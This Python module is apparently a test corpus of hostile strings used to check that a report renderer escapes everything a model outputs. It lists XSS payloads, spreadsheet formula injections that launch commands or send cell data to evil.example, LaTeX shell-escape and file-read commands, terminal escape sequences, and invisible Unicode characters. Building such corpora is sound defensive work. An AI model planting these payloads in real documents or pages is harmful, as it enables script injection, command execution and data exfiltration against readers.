"""What a model may say to harm whoever reads its report: each must stay text."""

from __future__ import annotations

CORPUS = (
    "<script>window.pwned = 1</script>",
    "</script><script>window.pwned = 2</script>",
    "<!-- <script> --><script>window.pwned = 3</script>",
    "<!--<script>",
    '<img src=x onerror="window.pwned = 4">',
    "<svg/onload=window.pwned=5><animate onbegin=window.pwned=6 attributeName=x>",
    '<iframe srcdoc="<script>parent.pwned = 7</script>"></iframe>',
    "</pre></td></table></dialog></details><style>*{display:none}</style><h1>gone</h1>",
    (
        "<template><script>window.pwned = 8</script></template><noscript><img src=x"
        " onerror=window.pwned=9></noscript>"
    ),
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=10>",
    '<a href="javascript:window.pwned=11" autofocus onfocus=window.pwned=12 tabindex=1>click</a>',
    (
        "<base href=https://evil.example/><link rel=stylesheet"
        " href=https://evil.example/x.css><meta http-equiv=refresh"
        ' content="0;url=https://evil.example">'
    ),
    '"}],"metrics":[]};window.pwned=13;//',
    (
        "'-(window.pwned=14)-' ${window.pwned=15} `${window.pwned=16}` {{ window.pwned }} {% raw %}"
        " {{ ''.__class__ }}"
    ),
    (
        "\\u003cscript\\u003ewindow.pwned=17\\u003c/script\\u003e"
        " &lt;script&gt;window.pwned=18&lt;/script&gt;"
    ),
    "&#60;img src=x onerror=window.pwned=19&#62;",
    "\u2028window.pwned=20\u2029//",
    (
        "\u202egnp.exe\u202c \u2066right\u2069 \u200bzero\u200dwidth\ufeff \x00nul \x1b[31mred\x07"
        " \x7f \x85"
    ),
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    'one,"two"\r\n=three',
    "\\input{/etc/passwd} \\write18{id} % $x_1^2$ & # {} ~ \\end{document}",
    ']]></text><script xmlns="http://www.w3.org/2000/svg">window.pwned=21</script>',
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x1b[1A\x1b[8mhidden\x9b31m \x1bPq\x1b\\",
    "safe\runsafe\x08\x08\x0b\x0c\x1c\x85 \u061c\u2061\U000e0041\U000e0101\u3164\u2800\ufe00\u00ad",
    "| a | b |\n|---|---|\n# head\n- [x](javascript:alert(1)) ![y](https://evil.example/z.png)",
    "`code` ``` *em* __strong__ ~~gone~~ $x^2$ <details> &amp; [^1] https://evil.example www.evil.example",
    "a;=cmd|' /C calc'!A0\t=1+1;\"+2",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    " \t@SUM(1)",
    "^^5cinput{x} ^^M \\catcode`\\% \\csname x\\endcsname %\nlost ?` !` ,, << >> --- \\\\ \\newline",
    "constructor",
    "__proto__",
    "hasOwnProperty",
    "toString",
    "模型 🙂 e\u0301 ﷽ " + "w" * 3000,
    "",
    " ",
    "\n\n\n",
)
